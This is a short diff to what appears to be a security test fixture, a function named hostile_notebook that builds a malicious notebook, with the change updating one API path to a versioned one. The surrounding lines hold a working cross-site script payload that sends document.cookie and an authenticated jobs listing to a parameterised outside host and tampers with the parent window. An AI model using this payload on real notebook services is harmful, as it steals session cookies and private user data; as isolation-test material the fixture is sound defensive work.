@@ -90,7 +90,7 @@ def hostile_notebook(elsewhere: str) -> NotebookNode:
         "try{parent.document.title='harmed'}catch(e){}"
         "try{top.postMessage({respawnHeight:'<b>',respawnTheme:'x'},'*')}catch(e){}"
         f"try{{fetch('{elsewhere}/fetch?'+document.cookie)}}catch(e){{fetch('{elsewhere}/fetch')}}"
-        "fetch('/services/respawn/api/jobs',{credentials:'include'}).then(a=>a.text())"
+        "fetch('/services/respawn/api/v1/jobs',{credentials:'include'}).then(a=>a.text())"
         ".then(t=>{new Image().src="
         f"'{elsewhere}/stolen?'+t}}).catch(()=>{{}});"
         f"new Image().src='{elsewhere}/image';"
